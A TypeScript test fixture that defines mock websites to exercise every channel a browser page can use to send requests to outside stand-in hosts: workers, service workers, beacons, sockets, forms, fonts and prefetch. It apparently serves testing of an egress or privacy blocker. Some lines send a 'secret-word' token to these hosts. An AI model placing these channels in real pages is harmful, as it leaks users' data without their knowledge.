import { page } from '../page';
import { html, nothing, pixel, reply, script } from '../reply';
import { standIn, website } from '../site';

/** Each way out of a page leads to a host of its own, so that the server log tells what was taken. */
const to = (way: string, scheme = 'https') => `${scheme}://${way}.leaves-to.example`;

const resources = `<link rel="prefetch" href="${to('prefetch')}/next.html">
<link rel="preconnect" href="${to('preconnect')}">
<link rel="preload" as="script" href="${to('preload')}/s.js">
<link rel="stylesheet" href="${to('stylesheet')}/a.css">
<img alt="" src="${to('image')}/p.gif"><img alt="" srcset="${to('image-set')}/p.gif 1x">
<video src="${to('media')}/v.mp4" preload="auto"></video>
<object data="${to('object')}/o.html"></object>
<iframe title="Frame" src="${to('frame')}/f.html"></iframe>
<iframe title="Inline" srcdoc="<img alt='' src='${to('image-in-srcdoc')}/p.gif'>"></iframe>
<iframe title="Target" name="into-one"></iframe><iframe title="Other target" name="into-other"></iframe>
<a id="ping" href="#sent" ping="${to('anchor-ping')}/p">Ping</a>
<form id="get-into-frame" action="${to('form-get')}/f" target="into-one"><input name="typed" value="secret-word"></form>
<form id="post-into-frame" method="post" action="${to('form-post')}/f" target="into-other"><input name="typed"></form>`;

const code = `
new WebSocket('${to('web-socket', 'wss')}/live?token=secret-word');
try { new WebTransport('${to('web-transport')}/t').ready.catch(() => {}); } catch {}
navigator.sendBeacon('${to('beacon')}/b', 'x');
fetch('${to('keepalive')}/k', { keepalive: true, mode: 'no-cors' });
fetch('${to('fetch')}/f', { mode: 'no-cors', method: 'POST', body: 'x' });
new EventSource('${to('event-source')}/e');
if (self.fetchLater) fetchLater('${to('fetch-later')}/l', { activateAfter: 0, mode: 'no-cors' });
import('${to('module')}/m.js');
document.fonts.add(new FontFace('sent', 'url(${to('font')}/f.woff2)'));
document.fonts.load('12px sent').catch(() => {});
new Image().src = '${to('refused-image')}/p.gif';
new Worker('/worker.js');
new SharedWorker('/shared.js');
navigator.serviceWorker.register('/sw.js');
document.querySelector('#ping').click();
document.querySelector('#get-into-frame').submit();
document.querySelector('#post-into-frame').submit();`;

const ask = (way: string) => `fetch('${to(way)}/w', { mode: 'no-cors' });`;
const listen = (way: string) => `new WebSocket('${to(way, 'wss')}/w');`;

/** The image is refused, which is reported in the old way; that fonts are used, in the new one. */
const policies = {
  'content-security-policy': `img-src 'self' ${['image', 'image-set', 'image-in-srcdoc'].map((way) => to(way)).join(' ')}; report-uri ${to('report-uri')}/r`,
  'content-security-policy-report-only': "font-src 'none'; report-to default",
  'reporting-endpoints': `default="${to('report-to')}/r"`,
};

const leaving = website('leaving.example', {
  '/': html(page('Leaving', `<p>Every way out of a page.</p>${resources}<script>${code}</script>`), policies),
  '/plain': html(page('Plain', `<p>Not encrypted.</p><script>new WebSocket('${to('plain-socket', 'ws')}/');</script>`)),
  '/quiet': html(page('Quiet', '<p>Asks its service worker to send something.</p>')),
  '/worker.js': script(
    `importScripts('${to('import-scripts')}/s.js'); ${ask('worker')} ${listen('worker-socket')} new Worker('/nested.js');`,
  ),
  '/nested.js': script(ask('nested-worker')),
  '/shared.js': script(`${ask('shared-worker')} ${listen('shared-worker-socket')}`),
  '/sw.js': script(`self.addEventListener('install', () => {
  self.skipWaiting();
  ${ask('service-worker')} ${listen('service-worker-socket')}
});
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('message', () => { ${ask('asked-service-worker')} });`),
});

export const leavingSites = [
  leaving,
  standIn('*.leaves-to.example', {
    '/p.gif': pixel(),
    '/s.js': script('void 0;'),
    '/m.js': script('export {};'),
    '/a.css': reply(200, 'text/css', 'p { color: inherit }'),
    '/f.html': html('<!doctype html><title>f</title>'),
    '/o.html': html('<!doctype html><title>o</title>'),
    '/next.html': html('<!doctype html><title>next</title>'),
    '/f': html('<!doctype html><title>Thank you</title>'),
    // Reports are asked for leave first.
    '/r': nothing({ 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' }),
  }),
];
